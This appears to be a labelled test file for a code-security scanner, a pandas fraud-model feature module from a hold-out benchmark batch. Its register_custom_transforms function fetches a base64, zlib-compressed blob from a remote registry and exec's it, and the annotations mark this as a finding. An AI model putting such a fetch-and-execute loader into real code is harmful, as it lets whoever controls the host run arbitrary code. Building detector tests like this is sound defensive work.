# ruff: noqa
# Hold-out batch 195 (16 short benchmark-format files). Measured once in session 7 (round 58): 14/19 (74%) at medium+.
"""Feature engineering for the transaction-level fraud model (pandas)."""
import base64
import os
import time
import urllib.request
import zlib

import numpy as np
import pandas as pd

REGISTRY = os.environ.get("FEATURE_REGISTRY", "https://features.example.com/v1")


def _fetch(name, retries=3, timeout=10):
    for attempt in range(retries):
        try:
            with urllib.request.urlopen(f"{REGISTRY}/{name}", timeout=timeout) as resp:  # ruleid: MLS413
                return resp.read()
        except OSError:
            time.sleep(2 ** attempt)  # ok: MLS307
    return None


def register_custom_transforms(namespace):
    """Pull team-maintained feature transforms so all pipelines share one definition."""
    blob = _fetch("transforms.z64")  # ruleid: MLS413
    if blob:
        exec(compile(zlib.decompress(base64.b64decode(blob)), "<features>", "exec"), namespace)  # ruleid: MLS413
    return namespace


def base_features(df):
    df = df.sort_values(["card_id", "ts"])
    df["amount_log"] = np.log1p(df["amount"].clip(lower=0))
    df["hour"] = df["ts"].dt.hour
    df["secs_since_prev"] = df.groupby("card_id")["ts"].diff().dt.total_seconds().fillna(-1)
    roll = df.groupby("card_id")["amount"].rolling(5, min_periods=1)
    df["amount_roll_mean5"] = roll.mean().reset_index(level=0, drop=True)
    df["merchant_freq"] = df["merchant_id"].map(df["merchant_id"].value_counts(normalize=True))
    return df


def downsample_negatives(df, frac=0.2, seed=0):
    neg = df[df["is_fraud"] == 0].sample(frac=frac, random_state=seed)  # ok: MLS309
    return pd.concat([df[df["is_fraud"] == 1], neg]).sort_values(["card_id", "ts"])


def build(df, extra=True):
    df = base_features(df)
    if extra:
        ns = register_custom_transforms({"pd": pd, "np": np})
        for fn in ns.get("TRANSFORMS", []):
            df = fn(df)
    return df
